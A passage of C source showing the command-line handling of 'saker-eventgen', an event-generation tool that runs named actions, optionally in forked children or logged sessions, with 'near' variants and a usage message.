	    (!strcmp(argv[1], "--all") || !strcmp(argv[1], "--near-all"))) {
		bool near = !strcmp(argv[1], "--near-all");
		pid_t bg[8];
		int nslow = 0;

		if (argc == 4 && !(sessions = fopen(argv[3], "ae"))) {
			fprintf(stderr, "saker-eventgen: %s: %s\n", argv[3], strerror(errno));
			return 1;
		}
		/* slow actions first, each in a child, waited for at the end */
		for (const struct action *a = actions; a->name; a++) {
			if (!is_slow(a) || near || nslow == 8)
				continue;
			if (sessions) {
				bg[nslow] = run_in_session(a, near);
			} else {
				bg[nslow] = fork();
				if (bg[nslow] == 0)
					_exit(run_one(a, near));
			}
			nslow += bg[nslow] > 0;
		}
		for (const struct action *a = actions; a->name; a++) {
			if (is_slow(a) && !near)
				continue;
			if (sessions)
				quiet_wait(run_in_session(a, near));
			else
				run_one(a, near);
		}
		while (nslow > 0)
			quiet_wait(bg[--nslow]);
		cleanup();
		return 0;
	}
	if (argc >= 3 && (!strcmp(argv[1], "--action") || !strcmp(argv[1], "--near"))) {
		bool near = !strcmp(argv[1], "--near");

		for (int i = 2; i < argc; i++) {
			const struct action *a;

			for (a = actions; a->name; a++)
				if (!strcmp(a->name, argv[i]))
					break;
			if (!a->name) {
				fprintf(stderr, "saker-eventgen: unknown action '%s' (see --list)\n", argv[i]);
				return 1;
			}
			run_one(a, near);
		}
		cleanup();
		return 0;
	}
	fprintf(stderr, "usage: saker-eventgen --list | --hosts | --action NAME... | --near NAME... | --all | --near-all [--sessions FILE]\n");
	return 1;
}
